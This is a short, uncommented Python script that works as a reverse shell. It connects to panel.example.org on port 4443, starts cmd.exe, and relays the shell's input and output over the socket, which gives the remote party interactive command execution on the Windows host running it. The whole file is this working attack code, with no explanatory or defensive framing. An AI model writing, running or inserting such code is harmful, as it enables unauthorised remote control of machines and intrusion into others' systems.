import socket
import subprocess
import threading

link = socket.socket()
link.connect(("panel.example.org", 4443))
child = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)


def inward():
    while data := link.recv(1024):
        child.stdin.write(data)


threading.Thread(target=inward).start()
while data := child.stdout.read(1):
    link.sendall(data)
